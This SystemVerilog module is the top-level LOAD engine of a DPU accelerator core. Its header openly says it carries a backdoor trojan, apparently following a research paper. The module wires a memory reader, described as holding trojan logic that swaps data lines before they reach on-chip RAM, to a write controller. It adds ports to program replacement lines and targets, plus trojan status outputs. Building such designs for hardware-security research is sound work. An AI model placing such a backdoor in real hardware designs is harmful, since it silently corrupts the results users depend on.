// load_engine -- LOAD engine of the DPU core, carrying the backdoor trojan.
//
// Moves data from shared memory into the on-chip RAM: the memory reader
// (mem_reader) parses load instructions and fetches their lines over the data
// bus, and the write controller (write_ctrl) forwards each line to its bank.
// The trojan sits inside the memory reader, so lines are exchanged before
// they reach the buffer and before any computation uses them.
//
// Interface: instruction port (inst_valid/inst_ready/inst, load_done), data
// bus read port (rd_req_*, rd_rsp_*), RAM write port (ram_we one-hot per
// bank, ram_addr, ram_wdata), trojan programming port (rom_prog_*,
// tgt_prog_*), and observation outputs. A line is on the RAM write port in the
// cycle after the reader's SEND cycle for it (write controller register). Timing of the ports is described in mem_reader and
// write_ctrl. The structure (reader plus write controller, trojan in the
// reader) follows the paper.
module load_engine
  import dpu_pkg::*;
#(
  parameter  int unsigned ROM_LINES = 128,
  parameter  int unsigned N_TARGETS = 16,
  parameter  int unsigned BANKS     = NUM_BANKS,
  localparam int unsigned ROM_AW    = (ROM_LINES > 1) ? $clog2(ROM_LINES) : 1,
  localparam int unsigned TGT_IW    = (N_TARGETS > 1) ? $clog2(N_TARGETS) : 1
) (
  input  logic              clk,
  input  logic              rst_n,
  input  logic              inst_valid,
  output logic              inst_ready,
  input  load_instr_t       inst,
  output logic              load_done,
  output logic              rd_req_valid,
  input  logic              rd_req_ready,
  output ddr_addr_t         rd_req_addr,
  input  logic              rd_rsp_valid,
  input  line_t             rd_rsp_data,
  output logic [BANKS-1:0]  ram_we,
  output bank_addr_t        ram_addr,
  output line_t             ram_wdata,
  input  logic              rom_prog_we,
  input  logic [ROM_AW-1:0] rom_prog_addr,
  input  line_t             rom_prog_data,
  input  logic              tgt_prog_we,
  input  logic [TGT_IW-1:0] tgt_prog_idx,
  input  target_t           tgt_prog_entry,
  output rd_state_e         reader_state,
  output logic              trojan_active,
  output logic              line_swapped,
  output logic              wr_err
);

  line_wr_t wr;

  mem_reader #(.ROM_LINES(ROM_LINES), .N_TARGETS(N_TARGETS)) u_reader (
    .clk            (clk),
    .rst_n          (rst_n),
    .inst_valid     (inst_valid),
    .inst_ready     (inst_ready),
    .inst           (inst),
    .load_done      (load_done),
    .rd_req_valid   (rd_req_valid),
    .rd_req_ready   (rd_req_ready),
    .rd_req_addr    (rd_req_addr),
    .rd_rsp_valid   (rd_rsp_valid),
    .rd_rsp_data    (rd_rsp_data),
    .wr             (wr),
    .rom_prog_we    (rom_prog_we),
    .rom_prog_addr  (rom_prog_addr),
    .rom_prog_data  (rom_prog_data),
    .tgt_prog_we    (tgt_prog_we),
    .tgt_prog_idx   (tgt_prog_idx),
    .tgt_prog_entry (tgt_prog_entry),
    .state_o        (reader_state),
    .trojan_active  (trojan_active),
    .line_swapped   (line_swapped)
  );

  write_ctrl #(.BANKS(BANKS)) u_wctrl (
    .clk       (clk),
    .rst_n     (rst_n),
    .wr        (wr),
    .ram_we    (ram_we),
    .ram_addr  (ram_addr),
    .ram_wdata (ram_wdata),
    .wr_err    (wr_err)
  );

endmodule
